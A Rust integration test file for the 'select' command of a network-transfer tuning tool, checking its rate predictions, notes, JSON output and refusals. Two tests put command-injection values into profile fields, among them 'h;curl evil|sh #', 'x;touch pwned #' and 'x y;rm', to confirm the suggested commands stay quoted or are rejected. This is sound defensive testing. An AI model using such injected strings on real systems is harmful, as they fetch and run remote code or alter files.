//! `fullpipe select`: what it prints of a choice.

use std::io::Write;
use std::process::{Command, Output};

fn select(words: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_fullpipe")).arg("select").args(words).output().unwrap()
}

fn text(words: &[&str]) -> String {
    let done = select(words);
    assert!(done.status.success(), "{done:?}");
    String::from_utf8(done.stdout).unwrap()
}

const PATH: [&str; 3] = ["lab:rtt=91.6ms,rate=10gbit", "--loss", "0"];

#[test]
fn the_rate_says_over_what_it_is_and_a_size_has_its_own() {
    let long = text(&PATH);
    assert!(long.contains(" over 10s, start-up included\n"), "{long}");
    let short = text(&[&PATH[..], &["--size", "1GB"]].concat());
    let line = short.lines().nth(2).unwrap();
    assert!(line.starts_with("1GB         about ") && line.contains("larger part"), "{short}");
    let json: serde_json::Value =
        serde_json::from_str(&text(&[&PATH[..], &["--size", "1GB", "--json"]].concat())).unwrap();
    let (mean, rate) = (&json["choice"]["expected"]["mean_bps"], &json["for_size"]["rate_bps"]);
    // The testbed's share of that mean is 0.6 to 0.7.
    let share = rate.as_f64().unwrap() / mean.as_f64().unwrap();
    assert!((0.5..0.8).contains(&share), "{json}");
    assert_eq!(json["for_size"]["bytes"], 1_000_000_000);
}

#[test]
fn what_is_sent_within_a_round_trip_has_no_rate() {
    for bytes in ["1B", "10KB"] {
        let size = [&PATH[..], &["--size", bytes]].concat();
        let line = format!("\n{bytes:<11} is sent within the first round trip, which is too short for a rate\n");
        assert!(text(&size).contains(&line), "{}", text(&size));
        let json: serde_json::Value = serde_json::from_str(&text(&[&size[..], &["--json"]].concat())).unwrap();
        assert!(json["for_size"]["seconds"].is_null() && json["for_size"]["rate_bps"].is_null(), "{json}");
    }
}

#[test]
fn a_question_with_a_zero_is_refused() {
    for (flags, why) in [
        (&["--rtt", "0ms"][..], "--rtt is 0; give a round-trip time, such as 91.6ms"),
        (&["--rtt", "1ms", "--rate", "0gbit"], "--rate is 0; give a capacity, such as 10gbit"),
        (&["--rtt", "1ms", "--size", "0B"], "--size is 0; give a size, such as 1GB"),
        (&["--rtt", "1ms", "--duration", "0s"], "--duration is 0; give a duration, such as 10s"),
    ] {
        let done = select(flags);
        let text = String::from_utf8(done.stderr).unwrap();
        assert!(done.status.code() == Some(2) && text.contains(why), "{flags:?} {text}");
    }
}

#[test]
fn an_uncertain_choice_names_commands_that_measure_it() {
    let done = select(&["--rtt", "91.6ms", "--rate", "10gbit", "--certain", "95%"]);
    assert_eq!(done.status.code(), Some(1), "{done:?}");
    let text = String::from_utf8(done.stderr).unwrap();
    let line = text.lines().find(|line| line.contains("fullpipe measure")).unwrap();
    let (path, flags) =
        line.split_once("fullpipe measure ").unwrap().1.split_once("; done").unwrap().0.split_once(' ').unwrap();
    assert!(matches!(path.parse(), Ok(fullpipe_path::Path::Lab(_))), "{path}");
    assert!(flags.ends_with("--duration 10s --seed $seed --out runs"), "{flags}");
    assert!(text.contains("\n  fullpipe analyze runs\n"), "{text}");
}

/// A script must learn, too, what this host cannot do.
#[test]
fn json_says_what_this_host_lacks() {
    let printed = text(&["--rtt", "91.6ms"]);
    let json: serde_json::Value = serde_json::from_str(&text(&["--rtt", "91.6ms", "--json"])).unwrap();
    let notes = printed.lines().filter_map(|line| line.strip_prefix("note        "));
    let notes: Vec<&str> = notes.filter(|note| note.contains("this host")).collect();
    let has = std::fs::read_to_string("/proc/sys/net/ipv4/tcp_available_congestion_control").unwrap();
    assert!(has.contains("hybla") || !notes.is_empty(), "{printed}");
    assert_eq!(json["this_host"], serde_json::json!(notes), "{printed}");
    // In the testbed, this host's settings do not count.
    let emulated = text(&["lab:rtt=91.6ms,rate=10gbit", "--json"]);
    let emulated: serde_json::Value = serde_json::from_str(&emulated).unwrap();
    assert_eq!(emulated["this_host"], serde_json::json!([]), "{emulated}");
}

#[test]
fn what_the_choice_leaves_out_of_a_path_is_said() {
    let path = |more: &str| format!("{},{more}", PATH[0]);
    let printed = text(&[&path("disk_a=50MB/s,disk_b=1GB/s,jitter=1ms,cross=udp:1mbit")]);
    for note in [
        "\nnote        disk_a has 50MB/s: a copy that reads or writes it has at most 400.0 Mb/s\n",
        "\nnote        select uses the path's rtt, rate, queue, mtu, loss and hosts, and ignores jitter, cross\n",
    ] {
        assert!(printed.contains(note), "{note}{printed}");
    }
    let json: serde_json::Value = serde_json::from_str(&text(&[&path("disk=50MB/s"), "--json"])).unwrap();
    assert!(json["notes"].to_string().contains("disk_a has 50MB/s"), "{json}");
    let done = select(&[&path("mount=nfs")]);
    let why = String::from_utf8(done.stderr).unwrap();
    assert!(done.status.code() == Some(2) && why.contains("mount: select chooses how streams are sent"), "{why}");
}

/// The runs of a faster path have no interval for this one.
#[test]
fn a_rate_that_is_cut_at_the_capacity_says_so() {
    let slower = ["lab:rtt=91.6ms,rate=8gbit", "--loss", "0"];
    let printed = text(&[&slower[..], &["--explain"]].concat());
    for line in [
        "expected    7.941 Gb/s (at most: the capacity; no interval, n=",
        "note        its runs, on a faster path, had more than 8.000 Gb/s can carry: on this path it has at most 7.941 Gb/s\n",
        "exceed the capacity on the profile's faster path: ranked and compared by their rates there\n",
    ] {
        assert!(printed.contains(line), "{line}\n{printed}");
    }
    assert!(!printed.contains(" to 7.941"), "{printed}");
    let json =
        |words: &[&str]| -> serde_json::Value { serde_json::from_str(&text(&[words, &["--json"]].concat())).unwrap() };
    let expected = json(&slower)["choice"]["expected"].clone();
    assert_eq!(expected["at_capacity"], true);
    // Of 9,014 bytes of each packet, 8,948 are data.
    assert_eq!(expected["mean_bps"].as_f64().unwrap(), 8e9 * 8948.0 / 9014.0);
    assert!(expected["low_bps"].is_null() && expected["high_bps"].is_null(), "{expected}");
    assert_eq!(json(&PATH)["choice"]["expected"]["at_capacity"], false);
    assert!(!text(&[&PATH[..], &["--explain"]].concat()).contains("at most"));
}

/// A profile of a lossy path, with these mean rates, bit/s, of UDT, at a given rate perhaps, and of CUBIC at 183 ms.
fn lossy_profile(udt: f64, pacing: Option<&str>, cubic: f64) -> tempfile::NamedTempFile {
    let entry = |cc: &str, streams: u16, bps: f64| {
        let pacing = pacing.filter(|_| cc == "udt");
        let transport = serde_json::json!({"cc": cc, "streams": streams, "buffer": "1GB", "pacing": pacing});
        serde_json::json!({"path": 0, "workload": 0, "transport": transport,
               "rtt_ms": [91.6, 183.0], "n": [3, 3], "mean_bps": [bps, bps], "sd_bps": [1e6, 1e6]})
    };
    let profile = serde_json::json!({"kind": "profile", "version": 2, "confidence": 0.95,
        "paths": [{"rate_bps": 1e9, "queue_bdp": 1.0, "mtu": 9000, "loss": 1e-3}], "workloads": [{"duration": "10s"}],
        "entries": [entry("udt", 1, udt), entry("cubic", 8, cubic)]});
    let mut file = tempfile::NamedTempFile::new().unwrap();
    file.write_all(profile.to_string().as_bytes()).unwrap();
    file
}

/// Whether a rate was measured at the path's RTT, between two others, or neither.
#[test]
fn it_says_from_which_rtts_a_rate_is() {
    let file = lossy_profile(600e6, None, 200e6);
    let printed = |rtt: &str| {
        let path = format!("lab:rtt={rtt},rate=1gbit,loss=1e-3");
        text(&[&path, "--profile", file.path().to_str().unwrap()])
    };
    assert!(!printed("91.6ms").contains("measured range") && !printed("183ms").contains("interpolated"));
    let note = "\nnote        the rate is interpolated between 91.6 and 183 ms\n";
    assert!(printed("100ms").contains(note), "{}", printed("100ms"));
    let note = "\nnote        366 ms is outside the measured range; this is the rate at 183 ms\n";
    assert!(printed("366ms").contains(note), "{}", printed("366ms"));
}

/// What a profile names goes into commands that people paste.
#[test]
fn a_profile_with_a_transport_that_cannot_be_is_refused() {
    let good = std::fs::read_to_string(lossy_profile(600e6, None, 200e6)).unwrap();
    for (of, to, why) in
        [(r#""streams":8"#, r#""streams":0"#, "streams"), (r#""cc":"cubic""#, r#""cc":"x y;rm""#, "congestion control")]
    {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        assert!(good.contains(of), "{good}");
        file.write_all(good.replace(of, to).as_bytes()).unwrap();
        let done = select(&["lab:rtt=183ms,rate=1gbit,loss=1e-3", "--profile", file.path().to_str().unwrap()]);
        let said = String::from_utf8(done.stderr).unwrap();
        assert_eq!(done.status.code(), Some(2), "{said}");
        assert!(said.contains("cannot be") && said.contains(why) && !said.contains("modprobe"), "{said}");
        assert!(done.stdout.is_empty());
    }
}

/// A stranger may have written the profile.
#[test]
fn a_path_of_a_profile_is_one_word_of_a_command() {
    let good = std::fs::read_to_string(lossy_profile(600e6, None, 200e6)).unwrap();
    let with = |key: &str, value: &str| {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        let path = format!(r#""paths":[{{{},"#, serde_json::json!({key: value}).to_string().trim_matches(['{', '}']));
        assert!(good.contains(r#""paths":[{"#), "{good}");
        file.write_all(good.replace(r#""paths":[{"#, &path).as_bytes()).unwrap();
        // Outside the measured range nothing is certain.
        let asked = ["--rtt", "366ms", "--certain", "95%", "--profile", file.path().to_str().unwrap()];
        let done = select(&asked);
        (done.status.code(), String::from_utf8(done.stderr).unwrap())
    };
    for key in ["cross", "kernel", "modality", "host_a", "disk_b"] {
        let (code, said) = with(key, "x;touch pwned #");
        assert_eq!(code, Some(1), "{said}");
        let line = said.lines().find(|line| line.contains("fullpipe measure")).unwrap();
        let words = shlex::split(line.trim()).unwrap();
        let path = words.iter().find(|word| word.starts_with("lab:")).unwrap();
        assert!(path.contains(&format!("{key}=x;touch pwned #")), "{line}");
    }
    for (key, value) in [("host", "h;curl evil|sh #"), ("cross", "a\nb"), ("disk_a", "\u{1b}[2J")] {
        let (code, said) = with(key, value);
        assert!(code == Some(2) && said.contains("is not a profile: its path 0 has"), "{said}");
    }
}

#[test]
fn slow_paths_have_rates_too() {
    let slow = std::fs::read_to_string(lossy_profile(90e3, None, 80e3)).unwrap();
    let mut file = tempfile::NamedTempFile::new().unwrap();
    file.write_all(slow.replace("1000000.0", "1000.0").as_bytes()).unwrap();
    let said = text(&["lab:rtt=183ms,rate=1gbit,loss=1e-3", "--profile", file.path().to_str().unwrap()]);
    assert!(said.contains("90.000 kb/s"), "{said}");
}

#[test]
fn udt_is_named_where_it_is_better_with_the_reason() {
    let chosen = |udt: f64, pacing: Option<&str>, cubic: f64| {
        let file = lossy_profile(udt, pacing, cubic);
        let profile = ["--profile", file.path().to_str().unwrap()];
        text(&[&["lab:rtt=183ms,rate=1gbit,loss=1e-3", "--explain"][..], &profile].concat())
    };
    let better = chosen(600e6, None, 200e6);
    for line in [
        "transport   udt × 1, buffer 1GB",
        "use         --transport udt --streams 1 --buffer 1GB",
        "note        UDT needs UDP to the far host; the best over TCP is cubic × 8, buffer 1GB (200.0 Mb/s)",
        "  udt × 1, buffer 1GB has it, and nothing that remains is within 1% of it",
        "  the best over UDT, udt × 1, buffer 1GB (600.0 Mb/s), has 3.00 times the rate of the best over TCP, cubic × 8, \
         buffer 1GB (200.0 Mb/s)",
    ] {
        assert!(better.lines().any(|printed| printed == line), "{line}: {better}");
    }
    let worse = chosen(100e6, None, 200e6);
    assert!(worse.starts_with("transport   cubic × 8") && worse.contains("0.50 times the rate"), "{worse}");
    assert!(!worse.contains("needs UDP"), "{worse}");
    let fixed = chosen(900e6, Some("950mbit"), 200e6);
    assert!(fixed.starts_with("transport   udt × 1, buffer 1GB, paced at 950mbit\n"), "{fixed}");
    assert!(fixed.contains("note        UDT keeps to 950mbit whatever is lost"), "{fixed}");
    assert!(fixed.contains("--transport udt --streams 1 --buffer 1GB --pacing 950mbit\n"), "{fixed}");
    // A program learns of it, too.
    let file = lossy_profile(900e6, Some("950mbit"), 200e6);
    let words = ["lab:rtt=183ms,rate=1gbit,loss=1e-3", "--profile", file.path().to_str().unwrap()];
    let json: serde_json::Value = serde_json::from_str(&text(&[&words[..], &["--json"]].concat())).unwrap();
    let notes = json["notes"].to_string();
    assert!(notes.contains("UDT needs UDP to the far host") && notes.contains("whatever is lost"), "{notes}");
    let tcp = text(&[&words[..], &["--transport", "tcp"]].concat());
    assert!(tcp.starts_with("transport   cubic × 8") && !tcp.contains("UDT"), "{tcp}");
}

/// A record of a measurement of storage.
fn record(operation: &str, threads: u16, gbps: f64, bottleneck: &str) -> tempfile::NamedTempFile {
    let file = tempfile::NamedTempFile::new().unwrap();
    let lines = [
        serde_json::json!({"kind": "storage", "version": 1, "id": "x", "program": "0", "kernel": "6.1",
            "storage": {"folder": "/data", "operation": operation, "threads": threads, "block_bytes": 8 << 20,
                        "direct": true, "size_bytes": 1_000_000_000},
            "file_system": {"type": "xfs", "total_bytes": 1, "free_bytes": 1, "device": null},
            "real": {"host": "dtn1"}}),
        serde_json::json!({"kind": "result", "rate_bps": gbps * 1e9, "bytes": 1, "seconds": 1.0, "fsync_s": 0.0,
            "call_bytes": 1, "calls": 1, "cpu_user_s": 0.0, "cpu_system_s": 0.0, "cpu_busiest": 0.1,
            "latency": {"mean_s": 0.1, "p50_s": 0.1, "p90_s": 0.1, "p99_s": 0.1, "p999_s": 0.1, "max_s": 0.1},
            "bottleneck": bottleneck}),
    ];
    std::fs::write(file.path(), lines.map(|line| format!("{line}\n")).concat()).unwrap();
    file
}

#[test]
fn storage_at_both_ends_joins_the_choice() {
    let (fast, slow) = (record("read", 16, 40.0, "requests"), record("write", 2, 1.5, "device"));
    let (fast, slow) = (fast.path().to_str().unwrap(), slow.path().to_str().unwrap());
    let joint = [&PATH[..], &["--from-storage", fast, "--to-storage", slow]].concat();
    let printed = text(&joint);
    for line in [
        "source      40.00 Gb/s: read, 16 threads, blocks of 8MiB, direct I/O (dtn1:/data, n=1)\n",
        "destination 1.500 Gb/s: write, 2 threads, blocks of 8MiB, direct I/O (dtn1:/data, n=1)\n",
        "copy        1.500 Gb/s, limited by the destination (source 40.00 Gb/s, network ",
        "helps       perhaps more threads, as no more were measured: fullpipe measure disk:/data --write --threads 2-8\n",
        " --streams 16 --",
        " --block 8MiB --direct on\n",
    ] {
        assert!(printed.contains(line), "{line}\n{printed}");
    }
    let json: serde_json::Value = serde_json::from_str(&text(&[&joint[..], &["--json"]].concat())).unwrap();
    let joint = &json["joint"];
    assert_eq!((&joint["limit"], &joint["remedy"]), (&"destination".into(), &"more_threads".into()));
    assert_eq!((&joint["rate_bps"], &joint["destination"]["threads"]), (&1.5e9.into(), &2.into()));
    let network = text(&[&PATH[..], &["--from-storage", fast]].concat());
    assert!(network.contains("limited by the network (source 40.00 Gb/s possible)\n"), "{network}");
    let without: serde_json::Value = serde_json::from_str(&text(&[&PATH[..], &["--json"]].concat())).unwrap();
    assert!(without.get("joint").is_none(), "{without}");
}

#[test]
fn storage_that_was_not_measured_is_an_error() {
    let read = record("read", 1, 1.0, "device");
    let done = select(&[&PATH[..], &["--to-storage", read.path().to_str().unwrap()]].concat());
    let error = String::from_utf8_lossy(&done.stderr);
    assert!(done.status.code() == Some(2) && error.contains("it has no writes; 'fullpipe measure"), "{error}");
    let done = select(&[&PATH[..], &["--from-storage", "/nowhere"]].concat());
    assert_eq!(done.status.code(), Some(2), "{done:?}");
}
